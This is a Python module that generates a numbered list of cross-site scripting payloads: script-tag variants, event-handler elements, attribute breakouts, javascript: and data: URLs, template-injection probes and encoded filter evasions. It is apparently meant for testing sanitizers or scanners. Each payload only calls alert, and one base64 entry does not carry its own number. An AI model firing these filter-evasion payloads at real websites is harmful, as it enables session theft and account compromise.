"""Payloads of cross-site scripting, from the well-known families; each would call `alert` with its number.

Sources: OWASP XSS Filter Evasion Cheat Sheet, PortSwigger's cheat sheet, HTML5 Security Cheatsheet; written anew.
"""

from __future__ import annotations

from itertools import product

NUMBER = 200

_CODE = "alert({n})"

_SCRIPTS = (
    "<script>{c}</script>",
    "<ScRiPt>{c}</sCrIpT>",
    "<script\n>{c}</script\n>",
    "<script/x>{c}</script>",
    "<script>{c}//",
    "<script type=module>{c}</script>",
    "<script src=data:text/javascript,{c}></script>",
    "<svg><script>{c}</script></svg>",
    "<math><mtext><script>{c}</script></mtext></math>",
    "<<script>{c}//<</script>",
)

_ELEMENTS = (
    "<img src=x onerror={c}>",
    "<img/src=x/onerror={c}>",
    "<image src=x onerror={c}>",
    "<svg onload={c}>",
    "<svg/onload={c}>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<svg><set onbegin={c} attributeName=x>",
    "<body onload={c}>",
    "<body onpageshow={c}>",
    "<details open ontoggle={c}>x</details>",
    "<video><source onerror={c}></video>",
    "<video src=x onerror={c}></video>",
    "<audio src=x onerror={c}></audio>",
    "<input autofocus onfocus={c}>",
    "<select autofocus onfocus={c}></select>",
    "<textarea autofocus onfocus={c}></textarea>",
    "<button autofocus onfocus={c}>x</button>",
    "<a href=# autofocus onfocus={c}>x</a>",
    "<object data=x onerror={c}></object>",
    "<embed src=x onerror={c}>",
    "<marquee onstart={c}>x</marquee>",
    "<style onload={c}></style>",
    "<link rel=stylesheet href=x onerror={c}>",
    "<iframe onload={c}></iframe>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>",
    "<iframe src='javascript:parent.{c}'></iframe>",
    "<p style=animation-name:x onanimationstart={c}>x</p><style>@keyframes x{{}}</style>",
    "<x contenteditable autofocus onfocus={c} tabindex=0>x</x>",
    "<dialog open onclose={c}><form method=dialog><button autofocus>x</button></form></dialog>",
    "<picture><source srcset=x><img onerror={c} src=x></picture>",
)

_BEFORE = ("", '"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</p>", "\u2028", "\x00")

_ATTRIBUTES = (
    '" onmouseover="{c}" x="',
    "' autofocus onfocus='{c}' x='",
    '" autofocus onfocus="{c}" tabindex="0',
    "` onerror=`{c}`",
    'x" style="animation-name:x" onanimationstart="{c}',
    '"/onload="{c}',
)

_ADDRESSES = (
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    "java\tscript:{c}",
    "\x01javascript:{c}",
    " javascript:{c}",
    "javascript://x.example/%0a{c}",
    "data:text/html,<script>parent.{c}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:{c}",
    "https://x.example/\"onmouseover='{c}'",
    "https://x.example/><script>{c}</script>",
    "//x.example/</a><img src=x onerror={c}>",
)

_TEMPLATES = (
    "{{{{constructor.constructor('{c}')()}}}}",
    "${{{c}}}",
    "#{{{c}}}",
    "<%= {c} %>",
    "{{% print({c}) %}}",
    "{{{{ ''.__class__.__mro__ }}}}{c}",
)

_ENCODED = (
    "&lt;script&gt;{c}&lt;/script&gt;",
    "%3Cscript%3E{c}%3C/script%3E",
    "\\u003cscript\\u003e{c}\\u003c/script\\u003e",
    "＜script＞{c}＜/script＞",
    "<img src=x onerror=&#97;lert({n})>",
    "<a href=&#106;avascript:{c} autofocus>x</a>",
    "+ADw-script+AD4-{c}+ADw-/script+AD4-",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<svg></p><style><a id='</style><img src=x onerror={c}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={c}>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<base href=javascript:{c}//>",
)


def payloads() -> list[str]:
    """Return the payloads, each with a number of its own."""
    own = (*_SCRIPTS, *_ELEMENTS, *_ATTRIBUTES, *_ADDRESSES, *_TEMPLATES, *_ENCODED)
    broken_out = (before + each for each, before in product((*_SCRIPTS[:4], *_ELEMENTS[:8]), _BEFORE[1:]))
    found = list(dict.fromkeys([*own, *broken_out]))[:NUMBER]
    return [each.format(c=_CODE.format(n=n), n=n) for n, each in enumerate(found)]
